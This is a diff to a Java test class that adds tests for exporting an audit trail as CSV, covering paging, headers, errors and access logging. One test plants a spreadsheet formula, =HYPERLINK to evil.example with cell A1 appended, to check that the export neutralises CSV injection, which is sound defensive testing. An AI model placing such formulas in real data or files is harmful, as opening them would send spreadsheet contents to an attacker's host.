@@ -1,5 +1,6 @@
 package org.homeward.beneficiary.service;
 
+import static java.util.stream.Collectors.joining;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.tuple;
 import static org.awaitility.Awaitility.await;
@@ -9,6 +10,7 @@ import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.TreeMap;
 import java.util.UUID;
 import java.util.stream.Stream;
 import org.bson.Document;
@@ -16,6 +18,8 @@ import org.homeward.kit.test.Answer;
 import org.homeward.kit.time.ProgrammeClock;
 import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
+import tools.jackson.dataformat.csv.CsvMapper;
+import tools.jackson.dataformat.csv.CsvSchema;
 
 /** What auditors find, what a person is told, and what is noticed when somebody hides something. */
 class AuditTrailTest {
@@ -157,7 +161,21 @@ class AuditTrailTest {
                 .allMatch(entry -> entry.path("organisation").isNull());
         assertThat(items(read)).hasSize(1);
         assertThat(items(changed)).hasSize(2);
-        for (var answer : List.of(ofThePerson, ofTheReferral, byKind, read, changed)) {
+        var readTable = table(READS + "?actor=" + me + period());
+        var changedTable = table(CHANGES + "?actor=" + me + period());
+        assertThat(rows(readTable)).hasSize(1).allMatch(row -> "".equals(row.get("organisation")));
+        assertThat(rows(changedTable))
+                .hasSize(2)
+                .allMatch(row -> "".equals(row.get("organisation")));
+        for (var answer :
+                List.of(
+                        ofThePerson,
+                        ofTheReferral,
+                        byKind,
+                        read,
+                        changed,
+                        readTable,
+                        changedTable)) {
             assertThat(answer.status()).isEqualTo(200);
             assertThat(answer.body()).doesNotContain(partner);
         }
@@ -193,17 +211,166 @@ class AuditTrailTest {
     void every_search_is_on_record_also_one_that_found_nothing() {
         var id = Cases.registered(worker, Cases.somebody());
         var nowhere = UUID.randomUUID();
+        var inATable = UUID.randomUUID();
 
         auditor.get(CHANGES + "?aggregate=" + id);
         auditor.get(READS + "?record=" + nowhere);
         auditor.get(CHANGES + "?kind=none" + period());
+        table(READS + "?record=" + inATable);
 
         assertThat(Database.stored("access", new Document("subject", auditing)))
                 .allMatch(entry -> entry.getString("type").equals("audit"))
                 .allMatch(entry -> entry.getString("purpose").equals("audit"))
                 .extracting(entry -> entry.getList("records", UUID.class).toString())
                 .containsExactlyInAnyOrder(
-                        "[" + id + "]", "[" + nowhere + "]", "[" + new UUID(0, 0) + "]");
+                        "[" + id + "]",
+                        "[" + nowhere + "]",
+                        "[" + inATable + "]",
+                        "[" + new UUID(0, 0) + "]");
+    }
+
+    @Test
+    void a_table_says_what_the_list_says_page_by_page() {
+        var person = Cases.somebody();
+        var id = Cases.registered(worker, person);
+        worker.ifMatch(1)
+                .put(
+                        "/api/v1/beneficiaries/" + id,
+                        Map.of("person", person, "district", "TJ-KT-VOSE"));
+        var asked = CHANGES + "?aggregate=" + id;
+        await().atMost(SOON)
+                .until(
+                        () ->
+                                items(auditor.get(asked)).stream()
+                                        .noneMatch(change -> change.path("seal").isNull()));
+        var listed = items(auditor.get(asked));
+
+        var first = table(asked + "&limit=1");
+        var second = table(asked + "&limit=1&cursor=" + first.header("Next-Cursor"));
+
+        assertThat(first.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+        assertThat(first.header("Content-Disposition"))
+                .isEqualTo("attachment; filename=\"changes.csv\"");
+        assertThat(first.header("Cache-Control")).isEqualTo("no-store");
+        assertThat(second.header("Next-Cursor")).isEmpty();
+        var rows = Stream.of(first, second).flatMap(page -> rows(page).stream()).toList();
+        assertThat(rows).hasSize(2).isEqualTo(listed.stream().map(AuditTrailTest::flat).toList());
+        assertThat(first.body()).contains("," + listed.getFirst().path("version").asLong() + ",");
+        var none = table(READS + "?record=" + UUID.randomUUID());
+        assertThat(none.body()).startsWith("\"id\",\"at\",").endsWith("\"seal.position\"\r\n");
+        assertThat(none.body().lines()).hasSize(1);
+    }
+
+    @Test
+    void a_table_of_readings_says_what_was_sought_too() {
+        auditor.get(READS + "?actor=" + pseudonym + "&from=2026-01-05&to=2026-02-06");
+        var mine = new Document("subject", auditing);
+        await().atMost(SOON)
+                .until(
+                        () ->
+                                Database.stored("access", mine).getFirst().get("seal")
+                                        instanceof Document);
+        var asked = READS + "?kind=audit&actor=" + Staff.pseudonym(auditing) + period();
+        var listed = items(auditor.get(asked)).getLast();
+
+        var rows = rows(table(asked));
+
+        assertThat(rows.getLast())
+                .isEqualTo(flat(listed))
+                .containsEntry("sought.from", "2026-01-05")
+                .containsKey("seal.position");
+    }
+
+    @Test
+    void what_would_be_a_formula_in_a_spreadsheet_is_text_in_the_table() {
+        var formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"open\")";
+        var sought = UUID.randomUUID();
+        var evil =
+                Staff.of(
+                        "evil-" + organisation,
+                        formula,
+                        List.of("auditor", "\t=1+1;@SUM(A1)"),
+                        "*");
+        assertThat(evil.with("Homeward-Purpose", "audit").get(READS + "?record=" + sought).status())
+                .isEqualTo(200);
+
+        var listed = items(auditor.get(READS + "?record=" + sought));
+        var table = table(READS + "?record=" + sought);
+
+        assertThat(listed.getFirst().path("organisation").asString()).isEqualTo(formula);
+        assertThat(table.body())
+                .contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1;\"\"open\"\")\",")
+                .contains(",\"'\t'=1+1;'@SUM(A1) auditor\",");
+    }
+
+    @Test
+    void a_table_that_is_not_to_be_had_is_a_problem_like_any_other() {
+        var somebody = READS + "?record=" + UUID.randomUUID();
+        var asTable = auditor.with("Accept", "text/csv");
+        var unauthorised = worker.with("Accept", "text/csv");
+        var image = auditor.with("Accept", "image/png");
+
+        var answers =
+                List.of(
+                        asTable.with("Homeward-Purpose", "curiosity").get(somebody),
+                        asTable.get(READS),
+                        asTable.get(somebody + "&limit=101"),
+                        asTable.get(somebody + "&cursor=x"),
+                        unauthorised.get(somebody),
+                        asTable.get("/ops/v1/audit/elsewhere"),
+                        image.get(somebody));
+
+        assertThat(answers)
+                .extracting(Answer::status, Answer::problem)
+                .containsExactly(
+                        tuple(400, "purpose-required"),
+                        tuple(400, "invalid-parameter"),
+                        tuple(400, "invalid-parameter"),
+                        tuple(400, "invalid-cursor"),
+                        tuple(403, "forbidden"),
+                        tuple(404, "no-such-endpoint"),
+                        tuple(406, "not-acceptable"));
+        assertThat(answers)
+                .allMatch(one -> one.header("Content-Type").startsWith("application/problem+json"))
+                .allMatch(one -> one.header("Content-Disposition").isEmpty());
+        assertThat(asTable.get("/problems").status()).isEqualTo(406);
+    }
+
+    @Test
+    void a_table_is_answered_to_who_prefers_one_and_a_list_to_all_others() {
+        var somebody = READS + "?record=" + UUID.randomUUID();
+
+        for (var accepted :
+                List.of("text/csv", "text/*", "application/json;q=0.5, text/csv;header=absent")) {
+            assertThat(auditor.with("Accept", accepted).get(somebody).header("Content-Type"))
+                    .as(accepted)
+                    .isEqualTo("text/csv;charset=UTF-8");
+        }
+        for (var accepted :
+                List.of("*/*", "application/json", "application/*", "text/csv;q=0.1, */*")) {
+            assertThat(auditor.with("Accept", accepted).get(somebody).header("Content-Type"))
+                    .as(accepted)
+                    .isEqualTo("application/json");
+        }
+        assertThat(auditor.get(somebody).header("Content-Type")).isEqualTo("application/json");
+    }
+
+    @Test
+    void a_table_that_can_not_be_recorded_is_not_answered() {
+        var id = Cases.registered(worker, Cases.somebody());
+        var own =
+                Staff.of("auditor-in-" + organisation, organisation, List.of("auditor"), "*")
+                        .with("Homeward-Purpose", "audit")
+                        .with("Accept", "text/csv");
+        Database.refuse("access", "organisation", organisation);
+        try {
+            var answer = own.get(CHANGES + "?aggregate=" + id);
+            assertThat(answer.status()).isEqualTo(503);
+            assertThat(answer.body()).doesNotContain(id.toString());
+        } finally {
+            Database.refuseNothing("access");
+        }
+        assertThat(own.get(CHANGES + "?aggregate=" + id).body()).contains(id.toString());
     }
 
     @Test
@@ -383,6 +550,44 @@ class AuditTrailTest {
     private static List<JsonNode> items(Answer answer) {
         assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
         return answer.json().path("items").valueStream().toList();
+    }
+
+    private Answer table(String path) {
+        var answer = auditor.with("Accept", "text/csv").get(path);
+        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
+        return answer;
+    }
+
+    /** Each by the names of its columns, and what is empty as the empty text. */
+    private static List<Map<String, String>> rows(Answer table) {
+        return new CsvMapper()
+                .readerForMapOf(String.class)
+                .with(CsvSchema.emptySchema().withHeader())
+                .<Map<String, String>>readValues(table.body())
+                .readAll();
+    }
+
+    /** What stands in a list as it stands in a table. */
+    private static Map<String, String> flat(JsonNode item) {
+        var flat = new TreeMap<String, String>();
+        for (var member : item.properties()) {
+            var value = member.getValue();
+            if (value.isObject()) {
+                value.properties()
+                        .forEach(
+                                part ->
+                                        flat.put(
+                                                member.getKey() + "." + part.getKey(),
+                                                part.getValue().asString("")));
+            } else if (value.isArray()) {
+                flat.put(
+                        member.getKey(),
+                        value.valueStream().map(JsonNode::asString).collect(joining(" ")));
+            } else {
+                flat.put(member.getKey(), value.asString(""));
+            }
+        }
+        return flat;
     }
 
     private static Stream<UUID> aggregates(Answer answer) {
